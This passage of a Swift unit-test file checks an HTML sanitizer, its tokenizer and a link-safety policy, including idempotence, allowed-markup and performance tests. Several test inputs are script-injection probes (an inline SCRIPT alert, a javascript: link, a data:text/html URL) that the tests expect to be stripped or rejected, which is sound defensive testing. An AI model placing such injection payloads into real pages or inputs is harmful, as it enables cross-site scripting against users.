            XCTAssertEqual(HTMLSanitizer.clean(row.input).visibleText, row.visible, row.input.debugDescription)
        }
    }

    func testVisibleTextOfHostileInputsIsTheirCleanedText() {
        XCTAssertEqual(HTMLSanitizer.clean(#"<SCRIPT>alert(1)</SCRIPT><B>bold</B>"#).visibleText, "bold")
        XCTAssertEqual(HTMLSanitizer.clean(#"<<script>alert(1)</script>"#).visibleText, "<")
        XCTAssertEqual(HTMLSanitizer.clean(#"<a href="javascript:alert(1)">click me</a>"#).visibleText, "click me")
    }

    /// Cleaning is idempotent for every input in every table: the output is already in the
    /// form the cleaner writes, so a second pass changes nothing.
    func testCleaningTwiceChangesNothing() {
        let inputs = SanitizerTables.allCases.map(\.input) + SanitizerTables.visibleText.map(\.input)
        for input in inputs {
            let once = HTMLSanitizer.clean(input)
            let twice = HTMLSanitizer.clean(once.html)
            XCTAssertEqual(twice.html, once.html, input.debugDescription)
            XCTAssertEqual(twice.visibleText, once.visibleText, input.debugDescription)
        }
    }

    /// Independently of the exact strings above: reading any output back with the tokenizer
    /// finds only allowed elements, no attributes except a safe `href`, `title` and the fixed
    /// `rel` on links, no comments or declarations, and balanced tags.
    func testEveryOutputContainsOnlyAllowedMarkup() {
        let allowedNames = Set(AllowedElement.allCases.map(\.tagName.description))
        for row in SanitizerTables.allCases {
            let html = HTMLSanitizer.clean(row.input).html
            var tokenizer = HTMLTokenizer(html)
            var open: [String] = []
            while let token = tokenizer.next() {
                switch token {
                case .startTag(let tag):
                    if tag.name == "br" {
                        XCTAssertTrue(tag.attributes.isEmpty, row.source)
                        continue
                    }
                    XCTAssertTrue(allowedNames.contains(tag.name), "\(row.source): <\(tag.name)>")
                    if tag.name == "a" {
                        XCTAssertEqual(tag.value(of: "rel"), "noopener noreferrer nofollow", row.source)
                        XCTAssertTrue(Set(tag.attributes.map(\.name)).isSubset(of: ["href", "title", "rel"]), row.source)
                        if let href = tag.value(of: "href") {
                            XCTAssertEqual(LinkPolicy.safeHref(href), href, row.source)
                        }
                    } else {
                        XCTAssertTrue(tag.attributes.isEmpty, "\(row.source): attributes on <\(tag.name)>")
                    }
                    open.append(tag.name)
                case .endTag(let name):
                    XCTAssertEqual(open.popLast(), name, "\(row.source): unbalanced </\(name)>")
                case .comment, .doctype:
                    XCTFail("\(row.source): comment or doctype in output")
                case .text:
                    break
                }
            }
            XCTAssertTrue(open.isEmpty, "\(row.source): left open \(open)")
        }
    }

    func testDeepNestingIsClosedInOrder() {
        let depth = 2_000
        let cleaned = HTMLSanitizer.clean(String(repeating: "<b><i>", count: depth) + "x")
        XCTAssertEqual(cleaned.html,
            String(repeating: "<b><i>", count: depth) + "x" + String(repeating: "</i></b>", count: depth))
    }

    // MARK: Speed

    /// Best of a few runs, in seconds, so that one slow moment on a shared machine does not
    /// decide the outcome.
    private func fastestCleaningTime(of input: String, runs: Int = 3) -> Double {
        var fastest = Double.infinity
        for _ in 0..<runs {
            let start = Date()
            _ = HTMLSanitizer.clean(input)
            fastest = min(fastest, Date().timeIntervalSince(start))
        }
        return fastest
    }

    /// 10,000 characters of realistic rich text. The limit is far above what a release build
    /// needs (well under a millisecond) because tests run unoptimized on a shared machine;
    /// it is there to catch accidental quadratic work, which would take seconds.
    func testTenThousandCharactersCleanQuickly() {
        let paragraph = #"<p>Some <b>bold</b> &amp; <a href="https://example.com/x?a=1&b=2" onclick="x()">a link</a>, caf\#u{E9} \#u{1F600}.</p>"#
        var content = ""
        while content.count < 10_000 { content += paragraph + "\n" }
        XCTAssertLessThan(fastestCleaningTime(of: content), 0.25)
    }

    /// Inputs built to hit every place where a careless implementation goes quadratic:
    /// long text runs, many unterminated "<", deep nesting with stray end tags, thousands
    /// of attributes, long references, a comment or raw text that never ends.
    func testPathologicalInputsStayLinear() {
        let size = 100_000
        let inputs: [(String, String)] = [
            ("less-than signs", String(repeating: "<", count: size)),
            ("ampersands with long names", String(repeating: "&" + String(repeating: "a", count: 40), count: size / 41)),
            ("deep nesting and stray end tags", String(repeating: "<b>", count: size / 7) + String(repeating: "</i>", count: size / 8)),
            ("nested blocks and list item ends", "<ul>" + String(repeating: "<blockquote>", count: size / 24) + String(repeating: "</li>", count: size / 10)),
            ("many attributes", "<a " + String(repeating: "x ", count: size / 2) + ">"),
            ("many duplicate attributes", "<a " + String(repeating: "href=1 ", count: size / 7) + ">"),
            ("unterminated comment", "<!--" + String(repeating: "-", count: size)),
            ("script full of near end tags", "<script>" + String(repeating: "</scrip", count: size / 7)),
            ("nested dropped elements", String(repeating: "<svg>", count: size / 5)),
            ("many links", String(repeating: #"<a href="https://example.com/">x"#, count: size / 32)),
        ]
        for (name, input) in inputs {
            XCTAssertLessThan(fastestCleaningTime(of: input, runs: 1), 2.0, name)
        }
    }
}

/// The tokenizer on its own: what tokens a browser would see.
final class HTMLTokenizerTests: XCTestCase {
    private func tokens(_ input: String) -> [HTMLToken] {
        var tokenizer = HTMLTokenizer(input)
        var result: [HTMLToken] = []
        while let token = tokenizer.next() { result.append(token) }
        return result
    }

    private func start(_ name: String, _ attributes: [(String, String)] = [], selfClosing: Bool = false) -> HTMLToken {
        .startTag(HTMLTag(
            name: name,
            attributes: attributes.map { HTMLAttribute(name: $0.0, value: $0.1) },
            isSelfClosing: selfClosing))
    }

    func testAttributesInEveryQuotingStyle() {
        XCTAssertEqual(
            tokens(#"<A HREF="x" Title='y' data-z=w disabled>t</a>"#),
            [start("a", [("href", "x"), ("title", "y"), ("data-z", "w"), ("disabled", "")]), .text("t"), .endTag(name: "a")])
    }

    func testFirstOfRepeatedAttributesWins() {
        XCTAssertEqual(tokens(#"<a href=1 HREF=2 href="3">"#), [start("a", [("href", "1")])])
    }

    func testSelfClosingFlagAndSlashesBetweenAttributes() {
        XCTAssertEqual(tokens("<br/>"), [start("br", selfClosing: true)])
        XCTAssertEqual(tokens("<img/src=x/>"), [start("img", [("src", "x/")])])
        XCTAssertEqual(tokens(#"<img/src="x"/>"#), [start("img", [("src", "x")], selfClosing: true)])
    }

    func testEndTagsIgnoreAttributes() {
        XCTAssertEqual(tokens(#"</P class="x">"#), [.endTag(name: "p")])
    }

    func testCommentsAndBogusComments() {
        XCTAssertEqual(tokens("<!-- c -->"), [.comment(" c ")])
        XCTAssertEqual(tokens("<!-->x"), [.comment(""), .text("x")])
        XCTAssertEqual(tokens("<!--->x"), [.comment(""), .text("x")])
        XCTAssertEqual(tokens("<!-- a --!>x"), [.comment(" a "), .text("x")])
        XCTAssertEqual(tokens("<!-- a -- b --->"), [.comment(" a -- b -")])
        XCTAssertEqual(tokens("<?pi x?>"), [.comment("?pi x?")])
        XCTAssertEqual(tokens("</3>"), [.comment("3")])
        XCTAssertEqual(tokens("<![CDATA[x]]>"), [.comment("[CDATA[x]]")])
        XCTAssertEqual(tokens("<!ELEMENT x>"), [.comment("ELEMENT x")])
    }

    func testDoctype() {
        XCTAssertEqual(tokens(#"<!doctype html PUBLIC "a>b">"#), [.doctype, .text(#"b">"#)])
    }

    func testLessThanThatStartsNoTag() {
        XCTAssertEqual(tokens("a < b <3 </>c</"), [.text("a < b <3 c</")])
    }

    func testTagCutOffByTheEndIsDropped() {
        XCTAssertEqual(tokens("x<a href='y"), [.text("x")])
        XCTAssertEqual(tokens("x<b"), [.text("x")])
    }

    func testLineBreaksAreNormalized() {
        XCTAssertEqual(tokens("a\r\nb\rc\n"), [.text("a\nb\nc\n")])
    }

    func testNULHandling() {
        XCTAssertEqual(tokens("a\u{0}b<x\u{0}y z\u{0}=\"\u{0}\">"),
            [.text("a\u{0}b"), start("x\u{FFFD}y", [("z\u{FFFD}", "\u{FFFD}")])])
    }

    func testReferencesInAttributeValues() {
        XCTAssertEqual(
            tokens(#"<a x="&amp;&lt=&copy1&copy;&notit;&#x41;">"#),
            // "&lt=", "&copy1" and "&notit;" stay as written: inside an attribute a legacy
            // name without its semicolon is not decoded when a letter, digit or "=" follows.
            [start("a", [("x", "&&lt=&copy1\u{A9}&notit;A")])])
    }

    func testRawTextEndsOnlyAtItsEndTag() {
        var tokenizer = HTMLTokenizer("<style><b>&amp;</styled></STYLE >after")
        XCTAssertEqual(tokenizer.next(), start("style"))
        tokenizer.switchContentModel(.rawText, closedBy: "style")
        XCTAssertEqual(tokenizer.next(), .text("<b>&amp;</styled>"))
        XCTAssertEqual(tokenizer.next(), .endTag(name: "style"))
        XCTAssertEqual(tokenizer.next(), .text("after"))
        XCTAssertNil(tokenizer.next())
    }

    func testRCDataDecodesReferences() {
        var tokenizer = HTMLTokenizer("<title>&lt;b&gt;</title>")
        XCTAssertEqual(tokenizer.next(), start("title"))
        tokenizer.switchContentModel(.rcData, closedBy: "title")
        XCTAssertEqual(tokenizer.next(), .text("<b>"))
        XCTAssertEqual(tokenizer.next(), .endTag(name: "title"))
    }

    func testPlainTextNeverEnds() {
        var tokenizer = HTMLTokenizer("<plaintext>a</plaintext>b")
        XCTAssertEqual(tokenizer.next(), start("plaintext"))
        tokenizer.switchContentModel(.plainText, closedBy: "plaintext")
        XCTAssertEqual(tokenizer.next(), .text("a</plaintext>b"))
        XCTAssertNil(tokenizer.next())
    }

    func testNamedReferenceTableIsComplete() {
        XCTAssertEqual(HTMLEntities.namedReferences.count, 2_231)
        XCTAssertEqual(HTMLEntities.namedReferences["CounterClockwiseContourIntegral;"], "\u{2233}")
        XCTAssertEqual(HTMLEntities.namedReferences["AElig"], "\u{C6}")
        XCTAssertEqual(HTMLEntities.namedReferences["fjlig;"], "fj")
        XCTAssertEqual(HTMLEntities.namedReferences["Afr;"], "\u{1D504}")
        XCTAssertNil(HTMLEntities.namedReferences["colon"])
        XCTAssertEqual(
            HTMLEntities.namedReferences.keys.map(\.count).max(), HTMLEntities.longestNameLength)
    }

    func testContentModelsChosenLikeABrowser() {
        XCTAssertEqual(HTMLContentModel.forStartTag("script"), .rawText)
        XCTAssertEqual(HTMLContentModel.forStartTag("noscript"), .rawText)
        XCTAssertEqual(HTMLContentModel.forStartTag("textarea"), .rcData)
        XCTAssertEqual(HTMLContentModel.forStartTag("plaintext"), .plainText)
        XCTAssertNil(HTMLContentModel.forStartTag("svg"))
    }
}

final class LinkPolicyTests: XCTestCase {
    func testSafeHref() {
        let rows: [(String, String?)] = [
            ("https://example.com", "https://example.com"),
            ("http://example.com/path?q=1#f", "http://example.com/path?q=1#f"),
            ("mailto:a@example.com", "mailto:a@example.com"),
            ("HtTpS://Example.com", "HtTpS://Example.com"),
            ("\u{1}\u{20}https://example.com\u{0}\u{1F} ", "https://example.com"),
            ("ht\ttp\n://exa\rmple.com", "http://example.com"),
            ("https://exa\u{1}mple.com", nil),
            ("https://example.com/\u{7F}", nil),
            ("https://example.com/\u{85}", nil),
            ("javascript:alert(1)", nil),
            ("data:text/html,x", nil),
            ("//example.com", nil),
            ("/path", nil),
            ("?q", nil),
            ("", nil),
            ("https:", nil),
            ("https://", nil),
            ("https:/x", nil),
            ("https:///x", nil),
            ("https://?x", nil),
            ("1http://x", nil),
            ("ht tp://x", nil),
            ("mailto:", nil),
        ]
        for (input, expected) in rows {
            XCTAssertEqual(LinkPolicy.safeHref(input), expected, input.debugDescription)
        }
    }
}
